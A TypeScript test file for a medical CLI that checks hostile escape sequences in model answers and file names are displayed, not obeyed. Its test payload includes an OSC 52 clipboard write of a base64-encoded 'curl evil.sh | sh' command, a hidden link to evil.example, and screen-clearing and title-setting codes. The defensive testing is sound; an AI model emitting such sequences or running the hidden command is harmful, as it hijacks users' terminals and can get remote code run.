// Bytes from files and from the model reach the terminal shown, never obeyed: the built CLI as
// a real process, against the simulator answering with terminal escape sequences.
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { jsonText, terminalText } from '../../../src/core/terminal-text';
import { startSim, type Sim } from '../../sim';
import { HOSTILE, runCli } from '../../cli-process';

const ESC = '\x1b';
/** OSC 52 (set the clipboard), OSC 8 (a hidden link), CSI (clear the screen), C1 CSI, a bidi override, BEL, a lone CR. */
const HOSTILE_ANSWER = `- Heparin started [L1] ${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\ ${ESC}[2J\u009b31m\u202Eevil\rfine\r\nnext\tline\n`;
// eslint-disable-next-line no-control-regex -- control characters are what must not be there
const RAW_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

describe('hostile text: nothing from outside acts on the terminal', function () {
  this.timeout(60_000);

  it('terminalText shows controls as code points, keeps tab and line feed; jsonText escapes C1 and bidi exactly', () => {
    assert.equal(terminalText(`a${ESC}[2Jb`), 'a⟨U+001B⟩[2Jb');
    assert.equal(terminalText('x\u009b31my'), 'x⟨U+009B⟩31my');
    assert.equal(terminalText('one\r\ntwo\rthree\tfour\n'), 'one\ntwo⟨U+000D⟩three\tfour\n');
    assert.equal(terminalText('\u202Eevil \ud800 😀'), '⟨U+202E⟩evil \ufffd 😀');
    const value = { s: `a${ESC}]52;c;x\x07\u009b\u202E\ud800\u2028` };
    const json = jsonText(value);
    assert.doesNotMatch(json.replace(/\n/g, ''), RAW_CONTROL);
    assert.match(json, /\\u009b/);
    assert.deepEqual(JSON.parse(json), value);
  });

  describe('against the simulator', () => {
    let sim: Sim;
    let dir: string;
    before(async () => {
      sim = await startSim();
      sim.setOptions({ answerText: HOSTILE_ANSWER });
      dir = fs.mkdtempSync(path.join(os.tmpdir(), 'medgemma-hostile-text-'));
      fs.writeFileSync(path.join(dir, 'note.txt'), 'Heparin drip started at 18:00.\n');
    });
    after(async () => {
      await sim.stop();
      fs.rmSync(dir, { recursive: true, force: true });
    });

    it('summarize streams the answer with every escape sequence shown, not sent', async () => {
      const r = await runCli(['summarize', path.join(dir, 'note.txt')], { env: { MEDGEMMA_BASE_URL: sim.baseUrl } });
      assert.equal(r.code, 0, r.stderr);
      assert.doesNotMatch(r.stdout, RAW_CONTROL, JSON.stringify(r.stdout));
      assert.doesNotMatch(r.stderr, RAW_CONTROL);
      assert.match(r.stdout, /⟨U\+001B⟩\]52;c;Y3VybCBldmlsLnNoIHwgc2g=⟨U\+0007⟩/);
      assert.match(r.stdout, /⟨U\+001B⟩\[2J⟨U\+009B⟩31m⟨U\+202E⟩evil⟨U\+000D⟩fine\nnext\tline/);
    });

    it('summarize --json keeps the answer exact, escaped', async () => {
      const r = await runCli(['summarize', path.join(dir, 'note.txt'), '--json'], { env: { MEDGEMMA_BASE_URL: sim.baseUrl } });
      assert.equal(r.code, 0, r.stderr);
      assert.doesNotMatch(r.stdout.replace(/\n/g, ''), RAW_CONTROL);
      const summary: string = JSON.parse(r.stdout).summary;
      assert.ok(summary.includes(`${ESC}]52;c;`) && summary.includes('\u009b31m') && summary.includes('\u202E'), JSON.stringify(summary));
    });
  });

  it('a file name with an escape sequence is shown, not obeyed, in an error', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'medgemma-hostile-name-'));
    const file = path.join(dir, `${ESC}[2J${ESC}]0;pwned\x07.png`);
    fs.copyFileSync(path.join(HOSTILE, 'png-ihdr-short.png'), file);
    const r = await runCli(['image', 'render', file, '--out', path.join(dir, 'o.png')]);
    assert.equal(r.code, 2);
    assert.doesNotMatch(r.stderr, RAW_CONTROL, JSON.stringify(r.stderr));
    assert.match(r.stderr, /^error: ⟨U\+001B⟩\[2J⟨U\+001B⟩\]0;pwned⟨U\+0007⟩\.png has a damaged PNG image header/);
    fs.rmSync(dir, { recursive: true, force: true });
  });
});
